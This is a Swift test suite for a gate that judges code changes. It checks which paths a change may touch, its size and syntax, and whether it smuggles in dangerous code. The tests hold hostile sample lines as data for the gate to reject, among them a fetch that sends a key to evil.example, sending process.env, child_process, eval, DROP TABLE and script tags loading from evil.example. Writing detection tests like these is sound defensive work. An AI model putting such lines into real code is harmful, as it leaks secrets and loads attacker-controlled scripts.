import Proof
import Testing

struct ProductGateTests {
    private let before = "button.onclick = () => {}\nexport const price = cents => cents / 100\n"

    private func failed(
        _ after: String, path: String = "app/cart.js", before: String? = nil, offered: Set<String> = ["app/cart.js"]
    ) -> [String] {
        ProductGate(offered: offered).judge([FileChange(path: path, before: before ?? self.before, after: after)])
            .filter { !$0.passed }.map(\.name)
    }

    @Test("A small change of an offered file passes")
    func passes() { #expect(failed(before.replacing("() => {}", with: "() => add(item)")) == []) }

    @Test("What was not offered is not changed, and tests never are")
    func paths() {
        #expect(failed("x\n", path: "app/other.js") == ["paths"])
        let spec = "tests/cart.spec.ts"
        #expect(failed("x\n", path: spec, offered: [spec]) == ["paths"])
        #expect(failed("[]\n", path: "fixtures/users.json", offered: ["fixtures/users.json"]) == ["paths"])
    }

    @Test("A change of nothing, and one that nobody would read, are none")
    func size() {
        #expect(failed(before) == ["size"])
        #expect(failed(before + String(repeating: "a()\n", count: 41)) == ["size"])
    }

    @Test("What cannot be read is refused")
    func syntax() { #expect(failed(before + "function () {\n") == ["syntax"]) }

    @Test(
        "What destroys data, or brings what no repair needs, is refused",
        arguments: [
            ("db.run('DROP TABLE orders')", "no-data-destroyed"), ("eval(code)", "nothing-smuggled"),
            ("fetch('https://evil.example/' + key)", "nothing-smuggled"),
            ("require('child_process')", "nothing-smuggled"), ("send(process.env)", "nothing-smuggled"),
            ("import { readFileSync } from 'node:fs'", "nothing-smuggled"),
            ("send(process['env'])", "nothing-smuggled"),
            ("import left from 'left-pad'", "nothing-smuggled"), ("Function('return 1')()", "nothing-smuggled"),
            ("send(globalThis['pro' + 'cess'])", "nothing-smuggled"), ("import('./x' + y)", "nothing-smuggled"),
        ])
    func smuggled(line: String, check: String) { #expect(failed(before + line + "\n") == [check]) }

    @Test("What a commit took away may come back as it stood there, and nothing beside it")
    func restores() {
        let base = "import { send } from './send.js'\nsave.onclick = () => fetch('/notes')\n" + before
        let failed = { (after: String, base: [String: String]) in
            ProductGate(offered: ["app/cart.js"], restoring: base)
                .judge([FileChange(path: "app/cart.js", before: before, after: after)])
                .filter { !$0.passed }.map(\.name)
        }
        #expect(failed(base, ["app/cart.js": base]) == [])
        #expect(failed(base, [:]) == ["nothing-smuggled"])
        let more = base + "fetch('https://evil.example/')\n"
        #expect(failed(more, ["app/cart.js": base]) == ["nothing-smuggled"])
        #expect(failed(base, ["app/other.js": base]) == ["nothing-smuggled"])
    }

    @Test("A page may be mended, and may not load or send anything that it did not")
    func pages() {
        let page = "<button>Pay</button>\n"
        let judge = { (after: String) in
            failed(after, path: "app/cart.html", before: page, offered: ["app/cart.html"])
        }
        #expect(judge("<button type=\"button\">Pay</button>\n") == [])
        for text in ["<script src=\"//evil.example/a.js\"></script>", "<img src='//evil.example'>", "<link href=x>"] {
            #expect(judge(page + text + "\n") == ["nothing-smuggled"], "\(text)")
        }
    }

    @Test(
        "A program in a language that is not read is not run to prove it", arguments: ["py", "rb", "go", "php", "vue"])
    func languages(ending: String) {
        let path = "app/cart." + ending
        #expect(failed("pay()\n", path: path, before: "", offered: [path]).contains("paths"))
    }
}
